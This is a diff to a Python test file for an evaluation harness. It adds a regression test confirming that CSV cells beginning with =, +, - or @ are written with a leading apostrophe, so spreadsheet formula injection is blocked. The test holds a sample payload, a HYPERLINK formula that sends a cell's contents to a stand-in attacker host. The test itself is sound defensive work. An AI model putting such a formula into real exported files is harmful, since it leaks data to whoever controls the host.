@@ -502,3 +502,25 @@ def test_a_report_with_no_finished_case_measures_nothing():
         "average model calls: 0.0 per case",
         "invented arguments: 0",
     ]
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
+
+
+def test_a_cell_a_spreadsheet_would_read_as_a_formula_is_written_as_text(tmp_path):
+    """Before: the model's order id, the gateway's error text and the cases file's question went into
+    the CSV as they came, so a teacher opening it in a spreadsheet ran `=HYPERLINK(…)` (the model's
+    arguments and a gateway's message are anyone's text). Now such a cell starts with `'`."""
+    cases = [
+        AccuracyCase("F1", "normal", "-1 元能退吗 SN202610200001", "query_order", "SN202610200001"),
+        AccuracyCase("F2", "normal", "@SN202610200001 什么状态", "query_order", "SN202610200001"),
+    ]
+    script = [call("query_order", orderId=FORMULA), "好的。", call("query_order", orderId="+1+2"), "好的。"]
+    path = write_csv(run_suite(ScriptedModel(script), cases, SHOP), tmp_path / "out.csv")
+    with open(path, encoding="utf-8", newline="") as f:
+        rows = list(csv.DictReader(f))
+    assert [(r["question"], r["called_order_id"]) for r in rows] == [
+        ("'-1 元能退吗 SN202610200001", "'" + FORMULA),
+        ("'@SN202610200001 什么状态", "'+1+2"),
+    ]
+    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
